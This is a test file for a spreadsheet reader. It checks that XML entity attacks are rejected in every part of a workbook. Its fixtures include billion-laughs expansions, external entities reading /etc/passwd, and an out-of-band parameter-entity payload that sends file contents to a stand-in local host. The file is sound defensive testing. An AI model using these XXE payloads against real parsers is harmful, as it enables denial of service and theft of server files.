import {
  cellOf,
  main,
  makeBook,
  part,
  sheetXml,
  withParts,
  workbook,
  zipped,
} from "@/lib/platform/adapters/testing/make-workbook";
import { readSpreadsheet } from "./read-spreadsheet";

const limits = { rowsMax: 10_000, columnsMax: 100 };
const number = "RB123456785GB";
const row = `<row r="1">${cellOf(`<t>${number}</t>`)}</row>`;

/** The rows of a file as texts, or why it is rejected. */
async function read(bytes: Buffer) {
  const { refusal, rows } = await readSpreadsheet(bytes, limits);
  return refusal ?? rows?.map((one) => [one.row, ...one.cells.map(({ text }) => text)]);
}

describe("XML with entity definitions or external references", () => {
  const tens = (name: string) => `&${name};`.repeat(10);
  const kinds: readonly [string, string, string][] = [
    [
      "a billion of one word",
      `<!DOCTYPE x [<!ENTITY a "ha">${[..."bcdefghij"].map((one, at) => `<!ENTITY ${one} "${tens("abcdefghij"[at] ?? "")}">`).join("")}]>`,
      "&j;",
    ],
    [
      "entities by parameter",
      '<!DOCTYPE x [<!ENTITY % a "ha"><!ENTITY % b "%a;%a;%a;"><!ENTITY c "%b;">]>',
      "&c;",
    ],
    [
      "one long entity, many times",
      `<!DOCTYPE x [<!ENTITY a "${"a".repeat(50_000)}">]>`,
      "&a;".repeat(5_000),
    ],
    ["entities in a circle", '<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"],
    ["an entity from a file", '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>', "&a;"],
    ["an entity from the network", '<!DOCTYPE x [<!ENTITY a SYSTEM "http://127.0.0.1:9/a">]>', "&a;"],
    ["a parameter from the network", '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://127.0.0.1:9/a"> %a;]>', ""],
    [
      "a parameter that sends a file",
      `<!DOCTYPE x [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % d "<!ENTITY &#x25; s SYSTEM 'http://127.0.0.1:9/?%f;'>"> %d; %s;]>`,
      "",
    ],
    ["a definition from the network", '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/a.dtd">', ""],
    [
      "a public definition",
      '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://127.0.0.1:9/x.dtd">',
      "",
    ],
    ["a definition of its own elements", "<!DOCTYPE x [<!ELEMENT x (#PCDATA)>]>", ""],
    ["a default of an attribute", '<!DOCTYPE x [<!ATTLIST c t CDATA "s">]>', ""],
    ["a notation", '<!DOCTYPE x [<!NOTATION n SYSTEM "file:///bin/sh"><!ENTITY a SYSTEM "x" NDATA n>]>', ""],
  ];
  const places: readonly [string, (head: string, use: string) => Buffer][] = [
    ["the sheet", (head, use) => zipped([], sheetXml(`<row r="1">${cellOf(`<t>${use}</t>`)}</row>`, head))],
    [
      "shared strings",
      (head, use) =>
        withParts({ strings: `${head}<sst ${main}><si><t>${use}</t></si></sst>`, sheet: sheetXml(row) }),
    ],
    [
      "styles",
      (head, use) =>
        withParts({
          styles: `${head}<styleSheet ${main}><numFmts><numFmt numFmtId="170" formatCode="${use}"/></numFmts></styleSheet>`,
          sheet: sheetXml(row),
        }),
    ],
    [
      "the workbook",
      (head, use) =>
        zipped([
          part(
            "xl/workbook.xml",
            `${head}${String(workbook()[2]?.body).replace('name="a"', `name="${use}"`)}`,
          ),
        ]),
    ],
    [
      "the relations",
      (head) => zipped([part("xl/_rels/workbook.xml.rels", `${head}${workbook()[3]?.body}`)]),
    ],
    ["the kinds of parts", (head) => zipped([part("[Content_Types].xml", `${head}${workbook()[0]?.body}`)])],
    [
      "a sheet by another name",
      (head, use) =>
        makeBook([
          { name: "a", path: "a.dat", body: sheetXml(`<row r="1">${cellOf(`<t>${use}</t>`)}</row>`, head) },
        ]),
    ],
    ["a part nobody names", (head, use) => zipped([part("docProps/core.xml", `${head}<a>${use}</a>`)])],
  ];
  it.each(kinds)("is rejected: %s", async (_name, head, use) => {
    for (const [place, make] of places)
      expect([place, await read(make(head, use))]).toEqual([place, "unreadable"]);
  });

  it("is harmless where it is not a definition: inclusions, style sheets, character references, comments", async () => {
    const include =
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>';
    expect(await read(zipped([], sheetXml(`${include}${row}`)))).toEqual([[1, number]]);
    expect(
      JSON.stringify(await read(zipped([], sheetXml(`<row r="1">${cellOf(`<t>a${include}</t>`)}</row>`)))),
    ).not.toContain("root:");
    expect(
      await read(
        zipped([], sheetXml(row, '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/a.xsl"?>')),
      ),
    ).toEqual([[1, number]]);
    expect(await read(zipped([], sheetXml(`<!-- ${row} -->${row}`)))).toEqual([[1, number]]);
    expect(
      await read(zipped([], sheetXml(`<row r="1">${cellOf("<t>&#82;&#x42;&amp;lt;&lt;</t>")}</row>`))),
    ).toEqual([[1, "RB&lt;<"]]);
  });

  it("is read when it is plain", async () => {
    expect(await read(zipped())).toEqual([[1, number]]);
  });
});
